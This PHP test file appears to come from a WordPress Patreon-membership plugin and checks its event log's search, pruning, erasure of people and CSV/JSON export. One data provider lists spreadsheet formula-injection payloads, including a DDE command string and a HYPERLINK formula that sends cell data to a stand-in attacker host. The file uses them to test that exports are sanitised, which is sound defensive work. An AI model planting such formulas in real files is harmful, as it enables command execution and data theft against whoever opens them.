<?php
/**
 * The log.
 *
 * @package Patreon_Gate
 */

declare(strict_types=1);

namespace Patreon_Gate\Tests\Integration\Storage;

use PHPUnit\Framework\Attributes\DataProvider;
use PHPUnit\Framework\Attributes\Group;
use Patreon_Gate\Engine\Change_Event;
use Patreon_Gate\Engine\Member_Write;
use Patreon_Gate\Membership\Cause;
use Patreon_Gate\Membership\Entitlement;
use Patreon_Gate\Membership\Event_Type;
use Patreon_Gate\Membership\Member;
use Patreon_Gate\Storage\Database;
use Patreon_Gate\Storage\Ledger\Members;
use Patreon_Gate\Storage\Log\Event_Log;
use Patreon_Gate\Storage\Log\Log_Context;
use Patreon_Gate\Storage\Log\Log_Entry;
use Patreon_Gate\Storage\Log\Log_Export;
use Patreon_Gate\Storage\Log\Log_Query;
use Patreon_Gate\Storage\Log\Log_Search;
use Patreon_Gate\Storage\Options\Settings;
use Patreon_Gate\Tests\Integration_Test_Case;

/** L9: what is logged, found, kept, erased and exported. */
final class Event_Log_Test extends Integration_Test_Case {

	private const NOW = 1_800_000_000;

	private Database $database;
	private Event_Log $log;
	private Log_Search $search;

	protected function setUp(): void {
		parent::setUp();
		$this->database = new Database();
		$this->log      = new Event_Log( $this->database );
		$this->search   = new Log_Search( $this->database );
	}

	#[Group( 'smoke' )]
	public function test_L9_an_entry_contains_person_event_record_and_cause(): void {
		$this->member_event();
		$this->log->add( 'grant_set', array( 'tier' => '5' ), '77', 12, self::NOW + 1, new Log_Context( '11', 'aaaa', Cause::Grant, 'trace-2', 3 ) );
		list( $grant, $event ) = $this->search->page( new Log_Query(), 10 );
		self::assertSame( array( 'grant_set', '77', 12, 3, 'grant', 'trace-2', '11', 'aaaa', array( 'tier' => '5' ), null, null ), array( $grant->type, $grant->patreon_user_id, $grant->wp_user_id, $grant->actor_id, $grant->cause, $grant->correlation_id, $grant->campaign_id, $grant->member_id, $grant->details, $grant->before, $grant->after ) );
		self::assertSame( array( 'charge:declined', 'webhook', 'trace-1', self::NOW ), array( $event->type, $event->cause, $event->correlation_id, $event->created_at ) );
		self::assertNull( $event->before );
		self::assertSame( 'declined_patron', $event->after['patron_status'] ?? null );
		self::assertStringNotContainsString( 'sam@example.org', (string) wp_json_encode( $event->to_array() ), 'The entry has ids and no e-mail address.' );
		self::assertStringNotContainsString( 'Sam Smith', (string) wp_json_encode( $event->to_array() ) );
	}

	/** @return array<string, array{Log_Query, list<string>}> */
	public static function queries(): array {
		return array(
			'everything'  => array( new Log_Query(), array( 'd', 'c', 'b', 'a' ) ),
			'campaign'    => array( new Log_Query( campaign_id: '11' ), array( 'c', 'a' ) ),
			'member'      => array( new Log_Query( campaign_id: '11', member_id: 'm1' ), array( 'a' ) ),
			'person'      => array( new Log_Query( patreon_user_id: '1' ), array( 'b', 'a' ) ),
			'account'     => array( new Log_Query( wp_user_id: 5 ), array( 'd' ) ),
			'kinds'       => array( new Log_Query( types: array( 'a', 'd' ) ), array( 'd', 'a' ) ),
			'cause'       => array( new Log_Query( cause: 'sweep' ), array( 'c' ) ),
			'correlation' => array( new Log_Query( correlation_id: 't' ), array( 'c', 'a' ) ),
			'time'        => array( new Log_Query( from: self::NOW + 1, to: self::NOW + 3 ), array( 'c', 'b' ) ),
			'together'    => array( new Log_Query( campaign_id: '11', patreon_user_id: '1', types: array( 'a', 'b' ), from: self::NOW, to: self::NOW + 9 ), array( 'a' ) ),
			'nobody'      => array( new Log_Query( patreon_user_id: '9' ), array() ),
		);
	}

	/** @param list<string> $expected Kinds, the newest first. */
	#[DataProvider( 'queries' )]
	#[Group( 'smoke' )]
	public function test_L9_a_search_finds_its_entries( Log_Query $query, array $expected ): void {
		$this->log->add( 'a', array(), '1', 0, self::NOW, new Log_Context( '11', 'm1', Cause::Webhook, 't' ) );
		$this->log->add( 'b', array(), '1', 0, self::NOW + 1, new Log_Context( '22', 'm1' ) );
		$this->log->add( 'c', array( 'campaign' => '11' ), '2', 0, self::NOW + 2, new Log_Context( '', 'm2', Cause::Sweep, 't' ) );
		$this->log->add( 'd', array(), '', 5, self::NOW + 3 );
		$kinds = static fn ( array $entries ): array => array_map( static fn ( Log_Entry $entry ): string => $entry->type, $entries );
		self::assertSame( $expected, $kinds( $this->search->page( $query, 10 ) ) );
		$seen   = array();
		$before = 0;
		while ( array() !== ( $page = $this->search->page( $query, 1, $before ) ) ) {
			$this->log->add( 'later', array(), '1', 5, self::NOW + 2, new Log_Context( '11', 'm1', Cause::Sweep, 't' ) );
			$before = $page[0]->id;
			$seen[] = $page[0]->type;
		}
		self::assertSame( $expected, $seen, 'Pages stay the same while the log grows.' );
	}

	public function test_L9_no_search_reads_the_whole_table(): void {
		global $wpdb;
		if ( ! $wpdb->dbh instanceof \mysqli ) {
			self::markTestSkipped( 'Only MySQL and MariaDB explain themselves so.' );
		}
		$rows = array();
		for ( $i = 0; $i < 20000; $i++ ) {
			$rows[] = array( 'created_at' => self::NOW + $i, 'type' => 0 === $i % 500 ? 'rare' : 'common', 'patreon_user_id' => (string) ( $i % 900 ), 'wp_user_id' => $i % 700, 'campaign_id' => '11', 'member_id' => 'm' . ( $i % 900 ), 'cause' => 0 === $i % 300 ? 'refresh' : 'sweep', 'correlation_id' => 't' . ( $i % 800 ), 'details' => '{}' );
		}
		$this->database->insert_many( 'events', $rows );
		$this->database->execute( 'ANALYZE TABLE %i', array( $this->database->table( 'events' ) ) );
		$queries = array(
			'keep'   => new Log_Query( campaign_id: '11', member_id: 'm5' ),
			'person' => new Log_Query( patreon_user_id: '5' ),
			'user'   => new Log_Query( wp_user_id: 5 ),
			'kind'   => new Log_Query( types: array( 'rare' ) ),
			'cause'  => new Log_Query( cause: 'refresh' ),
			'trace'  => new Log_Query( correlation_id: 't5' ),
			'time'   => new Log_Query( from: self::NOW + 100, to: self::NOW + 200 ),
		);
		$sent    = array();
		$listen  = static function ( string $sql ) use ( &$sent ): string {
			$sent[] = $sql;
			return $sql;
		};
		add_filter( 'query', $listen );
		foreach ( $queries as $query ) {
			self::assertNotSame( array(), $this->search->page( $query, 50 ) );
		}
		$this->log->prune( 365, 10000, self::NOW + 5000, 100 );
		$this->log->forget_person( '5', 6, array( new Member( '11', 'm7', '7' ) ) );
		remove_filter( 'query', $listen );
		self::assertGreaterThan( 12, count( $sent ) );
		foreach ( $sent as $sql ) {
			foreach ( (array) $wpdb->get_results( 'EXPLAIN ' . $sql, ARRAY_A ) as $step ) {
				if ( null !== $step['table'] ) {
					self::assertContains( $step['type'], array( 'system', 'const', 'eq_ref', 'ref', 'range' ), $sql . wp_json_encode( $step ) );
				}
			}
		}
	}

	#[Group( 'smoke' )]
	public function test_L9_old_and_excess_entries_are_deleted_except_waiting_events(): void {
		for ( $i = 0; $i < 30; $i++ ) {
			$this->log->add( 'old', array(), '', 0, self::NOW - 400 * 86400 + $i );
		}
		$this->database->execute( 'UPDATE %i SET announce = 1 ORDER BY id LIMIT 1', array( $this->database->table( 'events' ) ) );
		for ( $i = 0; $i < 20; $i++ ) {
			$this->log->add( 'new', array(), '', 0, self::NOW + $i );
		}
		self::assertSame( 10, $this->log->prune( 365, 1000, self::NOW, 10 ) );
		self::assertSame( 19, $this->log->prune( 365, 1000, self::NOW, 100 ) );
		self::assertSame( 0, $this->log->prune( 365, 1000, self::NOW, 100 ) );
		self::assertCount( 21, $this->search->page( new Log_Query(), 100 ), 'An old event that was not announced yet is kept.' );
		$this->database->update( 'events', array( 'announce' => 2 ), array( 'announce' => 1 ) );
		$dropped = 0;
		while ( ( $now = $this->log->prune( 3650, 5, self::NOW, 4 ) ) > 0 ) {
			self::assertLessThanOrEqual( 4, $now );
			$dropped += $now;
		}
		self::assertSame( 16, $dropped );
		self::assertSame( array( 'new', 'new', 'new', 'new', 'new' ), array_map( static fn ( Log_Entry $entry ): string => $entry->type, $this->search->page( new Log_Query(), 100 ) ) );
	}

	#[Group( 'smoke' )]
	public function test_L9_many_entries_are_pruned_before_the_daily_job(): void {
		( new Settings() )->update( array( 'log_rows' => 1000 ) );
		$this->database->insert_many( 'events', array_fill( 0, 1500, array( 'created_at' => self::NOW, 'type' => 'flood', 'details' => '{}' ) ) );
		for ( $i = 0; $i < 400; $i++ ) {
			$this->log->add( 'more', array(), '', 0, self::NOW );
		}
		$left = $this->search->page( new Log_Query(), 2000 );
		self::assertLessThanOrEqual( 1200, count( $left ) );
		self::assertGreaterThanOrEqual( 1000, count( $left ) );
		self::assertSame( 'more', $left[0]->type );
	}

	#[Group( 'smoke' )]
	public function test_L9_an_erased_person_is_in_no_entry_and_the_facts_stay(): void {
		$this->member_event();
		$this->log->add( 'signed_in', array( 'purpose' => 'sign-in' ), '77', 12, self::NOW );
		$this->log->add( 'webhook_heard', array( 'code' => 'x' ), '', 0, self::NOW, new Log_Context( '11', 'aaaa' ) );
		$this->log->add( 'signed_in', array(), '88', 13, self::NOW );
		self::assertSame( 3, $this->log->forget_person( '77', 12, array( new Member( '11', 'aaaa', '77' ) ) ) );
		$rows = $this->database->rows( "SELECT * FROM %i WHERE patreon_user_id = '77' OR wp_user_id = 12 OR member_id = 'aaaa' OR before_facts LIKE '%%77%%' OR after_facts LIKE '%%77%%'", array( $this->database->table( 'events' ) ) );
		self::assertSame( array(), $rows );
		self::assertSame( array( 'signed_in', 'webhook_heard', 'signed_in', 'charge:declined' ), array_map( static fn ( Log_Entry $entry ): string => $entry->type, $this->search->page( new Log_Query(), 10 ) ) );
		self::assertSame( '88', $this->search->page( new Log_Query(), 1 )[0]->patreon_user_id );
	}

	/** @return array<string, array{string}> */
	public static function formulas(): array {
		$attacks = array( '=cmd|\' /C calc\'!A0', '+1+1', '-2+3', '@SUM(1)', "\t=1+1", "\r=1+1", "\n=1+1", '=HYPERLINK("https://evil.example/?"&A1)', "\u{FF1D}1+1", "\xFF=1", '"=1"', "',=1" );
		return array_combine( array_map( 'rawurlencode', $attacks ), array_map( static fn ( string $attack ): array => array( $attack ), $attacks ) );
	}

	#[DataProvider( 'formulas' )]
	#[Group( 'smoke' )]
	public function test_L9_no_exported_cell_is_a_spreadsheet_formula( string $attack ): void {
		$entry = new Log_Entry( 1, self::NOW, $attack, $attack, $attack, $attack, 0, 0, $attack, $attack, array(), null, null );
		$csv   = implode( '', iterator_to_array( Log_Export::csv( array( $entry ) ) ) );
		self::assertStringStartsWith( "\xEF\xBB\xBF\"id\",", $csv, 'The file begins with a byte order mark, so that Excel reads UTF-8.' );
		$file = fopen( 'php://memory', 'r+b' );
		self::assertIsResource( $file );
		fwrite( $file, substr( $csv, 3 ) );
		rewind( $file );
		$lines = array();
		while ( is_array( $line = fgetcsv( $file, null, ',', '"', '' ) ) ) {
			$lines[] = $line;
		}
		self::assertCount( 2, $lines, 'A line break in a cell does not begin a new row.' );
		self::assertSame( array( 13, 13 ), array_map( 'count', $lines ) );
		self::assertSame( array( '1', gmdate( 'Y-m-d\TH:i:s\Z', self::NOW ) ), array_slice( $lines[1], 0, 2 ) );
		foreach ( $lines[1] as $cell ) {
			self::assertDoesNotMatchRegularExpression( '/^[=+\-@\t\r\n\x{FF1D}\x{FF0B}\x{FF0D}\x{FF20}]/u', (string) $cell );
			self::assertTrue( mb_check_encoding( (string) $cell, 'UTF-8' ) );
		}
	}

	#[Group( 'smoke' )]
	public function test_L9_the_export_is_read_in_pages_and_is_valid_json(): void {
		$rows = array();
		for ( $i = 0; $i < 1234; $i++ ) {
			$rows[] = array( 'created_at' => self::NOW, 'type' => 'x', 'details' => 0 === $i ? '{"a":"\u00e9 <\/script>"}' : '{}' );
		}
		$this->database->insert_many( 'events', $rows );
		self::assertSame( "[]\n", implode( '', iterator_to_array( Log_Export::json( array() ) ) ) );
		$pages  = 0;
		$count  = function ( string $query ) use ( &$pages ): string {
			$pages += str_contains( $query, $this->database->table( 'events' ) ) ? 1 : 0;
			return $query;
		};
		add_filter( 'query', $count );
		$pieces = array();
		foreach ( Log_Export::json( $this->search->all( new Log_Query() ) ) as $piece ) {
			$pieces[] = $piece;
			// Nothing is read before it is needed.
			self::assertSame( (int) ceil( min( 1234, count( $pieces ) ) / 500 ), $pages );
		}
		remove_filter( 'query', $count );
		$told = json_decode( implode( '', $pieces ), true, 16, JSON_THROW_ON_ERROR );
		self::assertIsArray( $told );
		self::assertCount( 1234, $told );
		self::assertSame( array( 'a' => 'é </script>' ), $told[1233]['details'] );
		self::assertCount( 1235, iterator_to_array( Log_Export::csv( $this->search->all( new Log_Query() ) ), false ) );
	}

	private function member_event(): void {
		$member = new Member( '11', 'aaaa', '77', 'Sam Smith', 'sam@example.org', 'declined_patron', fetched_at: self::NOW );
		$event  = new Change_Event( Event_Type::Charge_Declined, array( 'patron_status' => array( 'before' => null, 'after' => 'declined_patron' ) ) );
		( new Members( $this->database ) )->write( array( new Member_Write( null, $member, Entitlement::none( '11' ), array( $event ), Cause::Webhook, 'trace-1', self::NOW ) ) );
	}
}
